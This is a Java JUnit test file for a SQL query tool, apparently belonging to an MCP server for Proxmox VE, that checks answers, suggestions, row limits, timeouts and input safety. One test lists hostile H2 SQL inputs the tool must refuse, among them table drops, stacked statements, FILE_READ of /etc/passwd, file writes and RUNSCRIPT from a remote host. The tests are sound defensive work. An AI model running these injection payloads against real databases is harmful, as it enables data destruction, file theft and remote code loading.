package pvemcp.tools.answer;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import pvemcp.lab.Lab;
import pvemcp.lab.LabAssert;
import pvemcp.lab.Scenes;
import pvemcp.lab.Tokens;
import pvemcp.query.Inventory;
import pvemcp.sim.scenario.Scenarios;
import pvemcp.tool.ToolResult;

class QueryTest {
    private static LabAssert that(ToolResult result) {
        return LabAssert.assertThat(result);
    }

    static List<String> tables() {
        return Inventory.tables().stream().map(Inventory.TableDoc::name).toList();
    }

    @Test
    void a_question_is_answered_as_a_table() {
        try (var lab = Lab.of(Scenes.small())) {
            that(lab.call("pve_query", "sql", "SELECT vmid, name, status FROM guests ORDER BY vmid DESC"))
                    .reads("vmid|name|status\n102|dns|stopped\n101|web|running\n100|db|running");
        }
    }

    @Test
    void without_a_question_it_lists_tables_and_columns() {
        try (var lab = Lab.of(Scenes.small())) {
            var text = that(lab.call("pve_query"))
                    .shows("guests|vmid name type node status", "snapshots|vmid name parent taken(time)")
                    .text();
            assertThat(Tokens.count(text)).isLessThanOrEqualTo(2_000);
        }
    }

    @Test
    void a_cell_is_cut_between_characters_and_not_within_one() {
        try (var lab = Lab.of(Scenes.small())) {
            var text = that(lab.call("pve_query", "sql", "SELECT '" + "\uD83D\uDDA5".repeat(100) + "' AS x"))
                    .shows("…")
                    .text();
            // Half a character is none, and comes out as a question mark.
            assertThat(new String(text.getBytes(UTF_8), UTF_8)).isEqualTo(text);
        }
    }

    @ParameterizedTest
    @MethodSource("tables")
    void every_table_can_be_read(String table) {
        try (var lab = Lab.of(Scenarios.homelab()).backedUp()) {
            that(lab.call("pve_query", "sql", "SELECT COUNT(*) AS n FROM " + table))
                    .showsNot("missing:");
        }
    }

    @Test
    void tables_can_be_joined() {
        try (var lab = Lab.of(Scenarios.homelab())) {
            that(lab.call("pve_query", "sql", """
                            SELECT g.name, COUNT(*) AS disks, SUM(d.size) / 1073741824 AS gib FROM guests g
                            JOIN disks d ON d.vmid = g.vmid WHERE g.name = 'db' GROUP BY g.name;""")).reads("name|disks|gib\ndb|2|280");
        }
    }

    @Test
    void a_column_that_is_not_grouped_is_no_misspelt_one() {
        try (var lab = Lab.of(Scenes.small())) {
            that(lab.call("pve_query", "sql", "SELECT name, COUNT(*) FROM guests"))
                    .failsWith("bad_arguments")
                    .saying("must be in the GROUP BY list")
                    .notSaying("did you mean");
        }
    }

    @Test
    void an_unknown_column_brings_the_nearest_one() {
        try (var lab = Lab.of(Scenes.small())) {
            that(lab.call("pve_query", "sql", "SELECT statsu FROM guests"))
                    .failsWith("bad_arguments")
                    .saying("statsu", "did you mean 'status'");
            that(lab.call("pve_query", "sql", "SELECT * FROM guest"))
                    .failsWith("bad_arguments")
                    .saying("did you mean 'guests'");
            that(lab.call("pve_query", "sql", "SELECT * FROM vms"))
                    .saying("did you mean 'guests'")
                    .notSaying("database is empty");
            // Of the tables that are asked, not of all.
            that(lab.call("pve_query", "sql", "SELECT stat FROM guests")).saying("did you mean 'status'");
            that(lab.call("pve_query", "sql", "SELECT zzz FROM guests")).saying("without sql the tables and their");
        }
    }

    @Test
    void rows_are_capped_and_say_so() {
        try (var lab = Lab.of(Scenes.fleet(300))) {
            var text = that(lab.call("pve_query", "sql", "SELECT * FROM guests", "limit", 500))
                    .shows("there are more")
                    .text();
            assertThat(Tokens.count(text)).isLessThanOrEqualTo(2_000);
            that(lab.call("pve_query", "sql", "SELECT vmid FROM guests", "limit", 2))
                    .shows("first 2 rows; there are more");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DROP TABLE guests",
                "DELETE FROM guests",
                "UPDATE guests SET name = 'x'",
                "SELECT 1; DROP TABLE guests",
                "SELECT 1 /* ; */; SHUTDOWN",
                "CREATE ALIAS run AS 'String run() { return null; }'",
                "CREATE TABLE x AS SELECT 1",
                "SCRIPT TO '/tmp/pve-mcp-script.sql'",
                "RUNSCRIPT FROM 'http://192.0.2.1/x.sql'",
                "CALL FILE_READ('/etc/passwd')",
                "SELECT FILE_READ('/etc/passwd')",
                "SELECT \"FILE_READ\"('/etc/passwd')",
                "SELECT FILE_WRITE('x', '/tmp/pve-mcp-written')",
                "SELECT * FROM CSVREAD('/etc/passwd')",
                "SELECT CSVWRITE('/tmp/pve-mcp-written', 'SELECT 1')",
                "SELECT * FROM LINK_SCHEMA('x', '', 'jdbc:h2:mem:y', 'a', 'b', 'PUBLIC')",
                "SELECT * FROM FINAL TABLE (DELETE FROM guests)",
                "SELECT REPEAT('x', 2000000000)",
                "SELECT RPAD('x', 2000000000)",
                "SET PASSWORD 'x'",
                "GRANT ALL ON guests TO reader",
                "EXPLAIN ANALYZE DELETE FROM guests",
                ""
            })
    void what_is_no_question_is_refused(String sql) {
        try (var lab = Lab.of(Scenes.small())) {
            that(lab.call("pve_query", "sql", sql)).failsWith("bad_arguments");
        }
        assertThat(Path.of("/tmp/pve-mcp-written")).doesNotExist();
        assertThat(Path.of("/tmp/pve-mcp-script.sql")).doesNotExist();
    }

    @Test
    void an_endless_question_ends() {
        try (var lab = Lab.of(Scenes.fleet(1_000))) {
            that(lab.call(
                            "pve_query",
                            "sql",
                            "SELECT COUNT(*) FROM guests a, guests b, guests c, guests d WHERE a.vmid + b.vmid > c.vmid + d.vmid"))
                    .failsWith("bad_arguments")
                    .saying("took too long");
        }
    }

    @Test
    void names_of_guests_cannot_draw_on_the_screen() {
        try (var lab = Lab.of(Scenes.small())) {
            lab.with(cluster -> cluster.guest(101).config.put("name", "we\u001b[31mb"));
            that(lab.call("pve_query", "sql", "SELECT name FROM guests WHERE vmid = 101"))
                    .shows("web");
        }
    }

    @Test
    void a_semicolon_in_a_text_is_no_second_statement() {
        try (var lab = Lab.of(Scenes.small())) {
            that(lab.call("pve_query", "sql", "SELECT vmid FROM guests WHERE tags LIKE '%;prod;%'"))
                    .reads("vmid\n100");
        }
    }
}
